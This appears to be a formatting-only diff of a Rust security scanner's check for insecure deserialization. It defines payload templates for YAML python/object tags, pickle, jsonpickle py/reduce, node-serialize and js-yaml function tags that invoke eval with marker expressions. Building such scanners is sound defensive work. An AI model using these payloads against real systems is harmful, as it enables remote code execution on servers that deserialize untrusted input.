@@ -3,7 +3,9 @@
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
 
-use crate::attack::{Attack, Form, Nonce, Payload, deliver, everywhere, gets_through, nothing_else, shot};
+use crate::attack::{
+    Attack, Form, Nonce, Payload, deliver, everywhere, gets_through, nothing_else, shot,
+};
 use crate::check::{Check, Class, Facet, Finding, Revisions, Severity};
 use crate::evidence::Profile::{Deep, Quick, Standard};
 use crate::evidence::{Evidence, Exchange};
@@ -38,18 +40,54 @@ macro_rules! python {
 }
 
 const FORMS: &[Form] = &[
-    Form::new("YAML", Quick, concat!("sample: !!python/object/apply:builtins.eval [\"", python!(), "\"]"), ran),
-    Form::new("YAML, alone", Standard, concat!("!!python/object/apply:eval [\"", python!(), "\"]"), ran),
-    Form::computed("JavaScript", Quick, "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}"),
-    Form::new("YAML, new", Deep, concat!("sample: !!python/object/new:eval [\"", python!(), "\"]"), ran),
-    Form::computed("YAML, JavaScript", Deep, "sample: !!js/function \"function(){return '«L»'+(«M»)+'«R»'}()\""),
-    Form::new("JSON, Python", Deep, concat!("{\"py/reduce\":[{\"py/function\":\"builtins.eval\"},{\"py/tuple\":[\"", python!(), "\"]}]}"), ran),
+    Form::new(
+        "YAML",
+        Quick,
+        concat!("sample: !!python/object/apply:builtins.eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::new(
+        "YAML, alone",
+        Standard,
+        concat!("!!python/object/apply:eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::computed(
+        "JavaScript",
+        Quick,
+        "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}",
+    ),
+    Form::new(
+        "YAML, new",
+        Deep,
+        concat!("sample: !!python/object/new:eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::computed(
+        "YAML, JavaScript",
+        Deep,
+        "sample: !!js/function \"function(){return '«L»'+(«M»)+'«R»'}()\"",
+    ),
+    Form::new(
+        "JSON, Python",
+        Deep,
+        concat!(
+            "{\"py/reduce\":[{\"py/function\":\"builtins.eval\"},{\"py/tuple\":[\"",
+            python!(),
+            "\"]}]}"
+        ),
+        ran,
+    ),
 ];
 
 /// Those that travel in Base64.
 const PACKED: &[Form] = &[
     Form::new("pickle", Quick, concat!("c__builtin__\neval\n(V", python!(), "\ntR."), ran),
-    Form::computed("JavaScript in Base64", Deep, "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}"),
+    Form::computed(
+        "JavaScript in Base64",
+        Deep,
+        "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}",
+    ),
 ];
 
 fn ran(n: &Nonce<'_>) -> Option<Oracle> {
